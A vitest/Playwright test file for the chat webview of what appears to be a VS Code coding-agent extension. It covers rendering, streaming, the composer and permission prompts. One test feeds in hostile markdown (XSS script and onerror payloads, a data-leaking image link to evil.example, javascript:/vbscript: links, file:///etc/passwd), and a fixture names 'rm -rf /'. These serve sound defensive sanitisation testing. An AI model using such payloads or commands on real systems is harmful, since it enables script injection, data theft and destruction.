import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { chatTexts } from "../../src/extension/pageTexts.ts";
import type { ChatMessageView, ChatStateView } from "../../src/protocol/chatView.ts";
import { chinese } from "../support/localizers.ts";
import {
  chatMessage,
  chatState,
  EventNumbers,
  question,
  sampleConversation,
  sampleDiff,
  toolBlock,
} from "../support/webview/chatSamples.ts";
import { type OpenOptions, type OpenWebview, WebviewLab } from "../support/webview/webviewLab.ts";

let lab: WebviewLab;
let view: OpenWebview;
let events: EventNumbers;
beforeAll(async () => {
  lab = await WebviewLab.start();
});
afterAll(() => lab?.stop());
afterEach(async () => {
  const { faults, strayRequests } = view;
  await view.page.context().close();
  expect({ faults, strayRequests }).toEqual({ faults: [], strayRequests: [] });
});

async function open(
  state: Partial<ChatStateView> = {},
  messages: readonly ChatMessageView[] = [],
  options: OpenOptions & { draft?: string } = {},
) {
  view = await lab.open("chat", { width: 420, height: 800, ...options });
  events = new EventNumbers();
  await view.send(events.all(chatState(state), messages, options.draft));
  await composer().waitFor();
  return view.page;
}

const composer = () => view.page.locator("textarea");
const item = (text: string) => view.page.locator(".item").filter({ hasText: text });
const running = { state: "running", stopContinuations: 0 } as const;

describe("the conversation", () => {
  it("H14.3 H25.1 H25.2 shows text, tools, notices by level, compaction and task notifications in their places", async () => {
    const page = await open({}, sampleConversation(), { height: 2000 });
    await item("The hook stands").waitFor();
    const order = await page.locator(".item").allTextContents();
    for (const [index, text] of [
      "Set up a project hook",
      "I'll read the settings first",
      "Read.wave/settings.json",
      "Edit.wave/settings.json",
      "not on Sundays",
      "🔄 Round 2 | to stop: /cancel",
      "lint.sh ended with exit code 1",
      "The prompt was blocked",
      "summarised",
      "npm run build",
      "The hook stands in",
    ].entries())
      expect(order[index]).toContain(text);
    expect(await item("Round 2").locator(".notice.info").count()).toBe(1);
    expect(await item("lint.sh ended").locator(".notice.warning").count()).toBe(1);
    expect(await item("The prompt was blocked").textContent()).toContain("Error: ");
    await page.getByRole("button", { name: "Show summary" }).click();
    await page.getByText("Earlier, the user asked for hooks.").waitFor();
  });

  it("shows of a tool call what, where and its state; the result on demand; the diff with its link", async () => {
    const long = Array.from({ length: 500 }, (_, index) => `line ${index}`).join("\n");
    const page = await open({}, [
      chatMessage(
        "assistant",
        toolBlock({ id: "a", summary: "npm test -- \u202e<b>", result: long }),
        toolBlock({
          id: "b",
          name: "Edit",
          summary: "a.json",
          diff: sampleDiff,
          file: "/home/ada/shop/a.json",
        }),
        toolBlock({ id: "c", state: "failed", error: "first line\nsecond line" }),
      ),
    ]);
    const card = page.getByRole("button", { name: "Bash npm test -- ⟦U+202E⟧<b> done" });
    expect(await page.getByText("line 17").count()).toBe(0);
    await card.click();
    expect(await item("line 17").textContent()).not.toContain("line 300");
    await item("line 17").getByRole("button", { name: "Show more" }).click();
    await item("line 300").waitFor();
    expect(await page.locator(".diff-line.added").count()).toBe(4);
    expect(await page.locator(".diff-line.removed").count()).toBe(1);
    await page.getByRole("button", { name: "Open diff" }).click();
    expect((await view.posted("openDiff")).toolId).toBe("b");
    await page.getByRole("button", { name: "Open a.json" }).click();
    expect((await view.posted("openFile")).file).toBe("/home/ada/shop/a.json");
    await item("first line").waitFor();
    expect(await page.getByText("second line").count()).toBe(0);
  });

  it("renders hostile markdown without HTML, images, or links that are no web addresses", async () => {
    const hostile = [
      `<img src="https://evil.example/x.png" onerror="alert(1)"> <script>alert(2)</script>`,
      "![secret](https://evil.example/leak?data=1)",
      "[run](command:workbench.action.quit) [script](javascript:alert(3)) [file](file:///etc/passwd) [web](https://example.com/a)",
      "- [x] ticked",
      '<a href="https://evil.example" style="position:fixed">styled</a>',
      "[ref][r]\n\n[r]: vbscript:alert(4)",
    ].join("\n\n");
    const page = await open({}, [
      chatMessage("assistant", hostile),
      chatMessage("user", "<b>bold</b> **no**"),
    ]);
    await item("ticked").waitFor();
    expect(
      await page.locator(".markdown img, .markdown script, .markdown [style], .markdown input").count(),
    ).toBe(0);
    const links = await page
      .locator(".markdown a")
      .evaluateAll((all) => all.map((a) => a.getAttribute("href")));
    expect(links).toEqual(["https://example.com/a"]);
    expect(await item("ticked").textContent()).toContain("<script>alert(2)</script>");
    expect(await item("ticked").textContent()).toContain("Image not loaded: secret");
    expect(await item("bold").textContent()).toContain("<b>bold</b> **no**");
  });

  it("copies code as it is", async () => {
    const page = await open({}, [chatMessage("assistant", "Run\n\n```sh\necho '<hi>' && \\\n  true\n```\n")]);
    await page.getByRole("button", { name: "Copy" }).click();
    await page.getByRole("button", { name: "Copied" }).waitFor();
    expect(await page.evaluate("navigator.clipboard.readText()")).toBe("echo '<hi>' && \\\n  true");
  });

  it("streams: what stood before stays the very same elements, and markdown grows to what it would be at once", async () => {
    const text = sampleConversation()[4]?.blocks[0];
    const whole = text?.type === "text" ? `${text.content}\n\n- a\n- b\n\n  c\n\n${text.content}` : "";
    const old = chatMessage("assistant", "old **text**");
    const page = await open({ status: running }, [old]);
    const oldNode = await item("old text").elementHandle();
    const streamed = chatMessage("assistant", "");
    for (let length = 1; length <= whole.length; length += 7) {
      const blocks = [{ type: "text" as const, content: whole.slice(0, length) }];
      await view.send(events.messages(1, [{ ...streamed, blocks }]));
    }
    await view.send(events.messages(1, [{ ...streamed, blocks: [{ type: "text", content: whole }] }]));
    await page.getByText("It runs at the next event.").nth(1).waitFor();
    const html = await page.locator(".markdown").last().innerHTML();
    expect(await oldNode?.evaluate((node) => node.isConnected)).toBe(true);
    await view.send(events.all(chatState({ sessionId: "s9" }), [chatMessage("assistant", whole)]));
    await item("old text").waitFor({ state: "detached" });
    expect(await page.locator(".markdown").last().innerHTML()).toBe(html);
  });

  it("holds 5,000 messages, stays at the end while there, and stays where the reader went", async () => {
    const messages = Array.from({ length: 5000 }, (_, index) =>
      chatMessage(index % 2 ? "assistant" : "user", `message ${index}.\n\n${"words ".repeat(index % 60)}`),
    );
    const page = await open({ status: running }, messages);
    await item("message 4999.").waitFor();
    expect(await page.locator(".item").count()).toBeLessThan(60);
    await view.send(events.messages(5000, [chatMessage("user", "one more")]));
    await page.waitForFunction("document.querySelector('.messages').textContent.includes('one more')");
    const fromEnd = () =>
      page.locator(".messages").evaluate((list) => list.scrollHeight - list.clientHeight - list.scrollTop);
    await expect.poll(fromEnd).toBeLessThan(9);
    await page.locator(".messages").hover();
    await page.mouse.wheel(0, -3000);
    await page.getByRole("button", { name: "Jump to the latest message" }).waitFor();
    const top = await page.locator(".messages").evaluate((list) => list.scrollTop);
    await view.send(events.messages(5001, [chatMessage("assistant", "and another")]));
    await page.waitForFunction("new Promise(requestAnimationFrame)");
    expect(Math.abs((await page.locator(".messages").evaluate((list) => list.scrollTop)) - top)).toBeLessThan(
      200,
    );
    await page.getByRole("button", { name: "Jump to the latest message" }).click();
    await item("and another").waitFor();
  });

  it("stays at the end when the list moves by itself, and goes there with what the reader sends", async () => {
    const messages = Array.from({ length: 60 }, (_, index) => chatMessage("assistant", `message ${index}.`));
    const page = await open({}, messages);
    await item("message 59.").waitFor();
    const list = page.locator(".messages");
    const jump = page.getByRole("button", { name: "Jump to the latest message" });
    await list.evaluate((element) => {
      element.scrollTop -= 300;
      return new Promise((seen) => element.addEventListener("scroll", () => seen(true), { once: true }));
    });
    expect(await jump.count()).toBe(0);
    await view.send(events.messages(60, [chatMessage("assistant", "message 60.")]));
    await item("message 60.").waitFor();

    await list.hover();
    await page.mouse.wheel(0, -300);
    await jump.waitFor();
    await composer().fill("and now?");
    await composer().press("Enter");
    await jump.waitFor({ state: "detached" });
    await view.send(events.messages(61, [chatMessage("user", "and now?")]));
    await item("and now?").waitFor();
  });

  it("asks for everything again when an event is missing", async () => {
    await open({}, [chatMessage("user", "first")]);
    events.skip();
    await view.send(events.messages(1, [chatMessage("assistant", "lost")]));
    await expect.poll(() => view.ofType("ready").length).toBe(2);
    await view.send(events.all(chatState(), [chatMessage("assistant", "all again")]));
    await item("all again").waitFor();
  });
});

describe("the composer", () => {
  it("sends with Enter, breaks with Shift+Enter, and leaves an input method its Enter", async () => {
    const page = await open();
    await composer().pressSequentially("one");
    await page.keyboard.press("Shift+Enter");
    await composer().pressSequentially("two");
    await composer().dispatchEvent("keydown", { key: "Enter", isComposing: true, bubbles: true });
    expect(view.ofType("send")).toEqual([]);
    await page.keyboard.press("Enter");
    expect((await view.posted("send")).text).toBe("one\ntwo");
    expect(await composer().inputValue()).toBe("");
    await page.keyboard.press("Enter");
    expect(view.ofType("send")).toHaveLength(1);
  });

  it("H28.1 H29.1 E15 puts a prompt into the empty composer: unsent, editable, focused, its first gap selected", async () => {
    const page = await open();
    const prompt = "/settings Set up a user hook for me: on <event>, for <matcher tools>, run <command>";
    await view.send(events.prefill(prompt));
    await expect.poll(() => composer().inputValue()).toBe(prompt);
    expect(view.ofType("send")).toEqual([]);
    await page.keyboard.type("Stop");
    expect(await composer().inputValue()).toBe(prompt.replace("<event>", "Stop"));
    await page.keyboard.press("Enter");
    expect((await view.posted("send")).text).toBe(prompt.replace("<event>", "Stop"));
  });

  it("H28.2 puts a prompt under a draft, and tells the host what stands there", async () => {
    await open({}, [], { draft: "my own words" });
    expect(await composer().inputValue()).toBe("my own words");
    await view.send(events.prefill("The prompt"));
    await expect.poll(() => composer().inputValue()).toBe("my own words\n\nThe prompt");
    await view.posted(
      "draft",
      ({ text, sessionId }) => text === "my own words\n\nThe prompt" && sessionId === "s1",
    );
    // A host that sends everything again takes nothing away.
    await composer().pressSequentially("!");
    await view.send(events.all(chatState(), [], "my own words"));
    expect(await composer().inputValue()).toBe("my own words\n\nThe prompt!");
  });

  it("keeps a draft per session", async () => {
    const page = await open({}, [], { draft: "draft of s1" });
    await page.getByRole("button", { name: "Sessions", exact: true }).click();
    await view.posted("listSessions", ({ open }) => open === true);
    const sessions = [
      { id: "s1", title: "First", updatedAt: Date.now() },
      { id: "s2", title: "Second", updatedAt: Date.now() - 7_200_000 },
    ];
    await view.send(events.state(chatState({ sessions })));
    await page.getByRole("button", { name: "Second" }).waitFor();
    expect(await view.focused()).toContain("First");
    expect(await page.getByRole("button", { name: "Second" }).textContent()).toContain("2 hours ago");
    await page.keyboard.press("ArrowDown");
    await page.keyboard.press("Enter");
    expect((await view.posted("switchSession")).id).toBe("s2");
    await view.send(events.all(chatState({ sessionId: "s2" }), [], "draft of s2"));
    await expect.poll(() => composer().inputValue()).toBe("draft of s2");
    // The new session that begins while something is typed takes it along.
    await view.send(events.all(chatState({ sessionId: "s3" }), [], ""));
    await view.posted("draft", ({ sessionId, text }) => sessionId === "s3" && text === "draft of s2");
  });

  it("goes through what was sent with the arrow keys, and back to the draft", async () => {
    const page = await open({}, [
      chatMessage("user", "first"),
      chatMessage("assistant", "x"),
      chatMessage("user", "second\nline"),
    ]);
    await composer().focus();
    await page.keyboard.press("ArrowUp");
    expect(await composer().inputValue()).toBe("second\nline");
    await page.keyboard.press("ArrowUp");
    expect(await composer().inputValue()).toBe("second\nline");
    await page.keyboard.press("ArrowUp");
    expect(await composer().inputValue()).toBe("first");
    await page.keyboard.press("ArrowDown");
    await page.keyboard.press("ArrowDown");
    expect(await composer().inputValue()).toBe("");
  });

  it("mentions files: the list follows the text, keys pick, Esc closes the list alone", async () => {
    const page = await open({ status: running });
    await composer().pressSequentially("mail ada@example.com, see @ind");
    await view.posted("findFiles", ({ query }) => query === "ind");
    await view.send(events.files("ind", ["src/index.ts", "my docs/index.md"]));
    const options = page.getByRole("option");
    await options.first().waitFor();
    await page.keyboard.press("ArrowDown");
    expect(await options.nth(1).getAttribute("aria-selected")).toBe("true");
    await page.keyboard.press("Enter");
    expect(await composer().inputValue()).toBe('mail ada@example.com, see @"my docs/index.md" ');
    await composer().pressSequentially("@");
    await page.getByText("Searching files…").waitFor();
    await page.keyboard.press("Escape");
    await page.getByText("Searching files…").waitFor({ state: "detached" });
    expect(view.ofType("stop")).toEqual([]);
    await page.keyboard.press("Escape");
    await view.posted("stop");
  });

  it("H26.1 shows the queue of a running turn, takes messages back, and stops", async () => {
    const page = await open({ status: running, queue: [{ id: "a", text: "and the tests" }] });
    await page.getByRole("list", { name: "Queued messages" }).getByText("and the tests").waitFor();
    await page.getByRole("button", { name: "Remove from the queue: and the tests" }).click();
    expect((await view.posted("unqueue")).id).toBe("a");
    await composer().fill("one more");
    await page.getByRole("button", { name: "Queue message" }).click();
    expect((await view.posted("send")).text).toBe("one more");
    await page.getByRole("button", { name: "Stop" }).click();
    await view.posted("stop");
  });

  it("picks permission mode and model", async () => {
    const page = await open();
    await page.getByRole("combobox", { name: "Permission mode" }).selectOption("plan");
    expect((await view.posted("setMode")).mode).toBe("plan");
    await page.getByRole("combobox", { name: "Model" }).selectOption("svc");
    expect((await view.posted("setModel")).id).toBe("svc");
    await page.getByRole("combobox", { name: "Model" }).selectOption({ label: "Set up models…" });
    await view.posted("chooseModel");
    expect(await page.getByRole("combobox", { name: "Model" }).inputValue()).toBe("composer");
  });
});

describe("permission questions", () => {
  const ask = (given: Partial<ChatStateView> = {}) =>
    open({ status: running, questions: [question()], ...given });

  it("say what, why, and what “always” writes; the answers reach the host", async () => {
    const page = await ask({ questions: [question({ reason: "The command reaches the network." })] });
    const section = page.getByRole("region", { name: "Permission" });
    for (const text of [
      "Allow Bash?",
      "npm install left-pad",
      "The command reaches the network.",
      "Writes the rule Bash(npm install:*) to .wave/settings.local.json.",
    ])
      expect(await section.textContent()).toContain(text);
    await section.getByRole("button", { name: "Always allow" }).click();
    expect(await view.posted("answer")).toEqual({ type: "answer", id: "q1", answer: "always" });
  });

  it("show the diff of a change to the hooks' configuration", async () => {
    const { always: _, ...once } = question({
      toolName: "Edit",
      summary: "/home/ada/.wave/settings.json",
      diff: sampleDiff,
    });
    const page = await ask({ questions: [once] });
    expect(await page.locator(".question .diff-line.added").count()).toBe(4);
    expect(await page.getByRole("button", { name: "Always allow" }).count()).toBe(0);
    await page.locator(".question").getByRole("button", { name: "Open diff" }).click();
    expect((await view.posted("openDiff")).toolId).toBe("q1");
  });

  it("do not steal the focus of someone who types; the keyboard reaches them from the composer", async () => {
    const page = await open({ status: running });
    await composer().pressSequentially("half a sen");
    await view.send(events.state(chatState({ status: running, questions: [question()] })));
    await page
      .getByRole("status")
      .filter({ hasText: "Permission needed: Bash, npm install left-pad" })
      .waitFor();
    await page.keyboard.type("tence");
    expect(await composer().inputValue()).toBe("half a sentence");
    await page.keyboard.press("Shift+Tab");
    await page.keyboard.type("use pnpm");
    await page.keyboard.press("Enter");
    expect(await view.posted("answer")).toEqual({
      type: "answer",
      id: "q1",
      answer: "deny",
      message: "use pnpm",
    });
    await view.send(events.state(chatState({ status: running })));
    await page.locator(".question").waitFor({ state: "detached" });
    expect(await view.focused()).toBe("Message");
  });

  it("one follows another: a second click does not answer it by mistake, and the focus comes along", async () => {
    const second = question({ id: "q2", summary: "rm -rf /" });
    const page = await ask({ questions: [question(), second] });
    await page.getByText("Question 1 of 2").waitFor();
    await page.getByRole("button", { name: "Allow once" }).focus();
    await page.keyboard.press("Enter");
    await view.posted("answer", ({ id }) => id === "q1");
    // The second click comes in the moment in which the second question is there.
    const clicked = page.evaluate(`new Promise((done) => {
      new MutationObserver(() => {
        if (!document.querySelector(".question").textContent.includes("rm -rf")) return;
        document.querySelector(".question-buttons vscode-button").click();
        done();
      }).observe(document.body, { subtree: true, childList: true, characterData: true });
    })`);
    await view.send(events.state(chatState({ status: running, questions: [second] })));
    await clicked;
    expect(view.ofType("answer")).toHaveLength(1);
    await expect.poll(() => view.focused()).toBe("Allow once");
    await page.keyboard.press("Enter");
    await view.posted("answer", ({ id }) => id === "q2");
  });
});

describe("around the conversation", () => {
  it("says what runs, how often a Stop hook has continued the turn, and how to end that", async () => {
    const status = {
      state: "running",
      activity: "Hook: lint.sh",
      since: Date.now() - 61_000,
      stopContinuations: 3,
    } as const;
    const page = await open({ status });
    await page.getByText("Hook: lint.sh").waitFor();
    await page.getByText(/1:\d\d min/).waitFor();
    await page.getByText("Stop hooks have continued this turn 3 times.").waitFor();
    await page.getByText("Press Stop or Esc to end it, or send a message: it goes first.").waitFor();
    await page.keyboard.press("Escape");
    await view.posted("stop");
    await view.send(events.state(chatState()));
    await page.getByRole("status").filter({ hasText: "Answer finished." }).waitFor();
  });

  it("lists background tasks and schedules, to be stopped and deleted", async () => {
    const page = await open({
      background: [
        { id: "b1", kind: "shell", label: "npm run dev" },
        { id: "c1", kind: "cron", label: "*/5 * * * * check mail" },
      ],
    });
    await page.getByText("2 background tasks").click();
    await page.getByRole("button", { name: "Stop npm run dev" }).click();
    await view.posted("stopBackground", ({ id }) => id === "b1");
    await page.getByRole("button", { name: "Delete */5 * * * * check mail" }).click();
    await view.posted("stopBackground", ({ id }) => id === "c1");
  });

  it("offers three kinds of models at the first run", async () => {
    const { modelId: _, ...fresh } = chatState();
    view = await lab.open("chat", { width: 300, height: 800 });
    events = new EventNumbers();
    await view.send(events.all(fresh));
    for (const [name, kind] of [
      ["VS Code language model", "vscode"],
      ["Your own service", "service"],
      ["Built-in composer", "composer"],
    ] as const) {
      await view.page.getByRole("button", { name }).click();
      await view.posted("setUpModel", (message) => message.kind === kind);
    }
    await view.send(events.state(chatState()));
    await view.page.getByText("Choose what answers").waitFor({ state: "detached" });
  });

  it("says in an untrusted workspace that no turn runs, and why", async () => {
    const page = await open({ trusted: false });
    await page.getByText("Restricted Mode: no turn runs.").waitFor();
    await page.getByRole("button", { name: "Manage workspace trust" }).click();
    await view.posted("manageTrust");
  });

  it("starts and clears sessions and opens the hooks' page", async () => {
    const page = await open();
    for (const [name, type] of [
      ["New session", "newSession"],
      ["Clear session", "clearSession"],
      ["Open hooks settings", "openSettings"],
    ] as const) {
      await page.getByRole("button", { name }).click();
      await view.posted(type);
    }
  });

  it("H28.1 speaks Chinese", async () => {
    const page = await open({ status: running, questions: [question()] }, sampleConversation(), {
      strings: chatTexts(chinese),
      language: "zh-cn",
    });
    const english = /[a-z]{4,} [a-z]{3,} [a-z]{3,}/;
    for (const button of await page.locator("header, .composer-bar, .question-buttons").allTextContents())
      expect(button.replace(/Ask first|Accept edits|Built-in composer/g, "")).not.toMatch(english);
    await page.getByRole("button", { name: chatTexts(chinese).allowOnce ?? "" }).click();
    await view.posted("answer");
  });
});
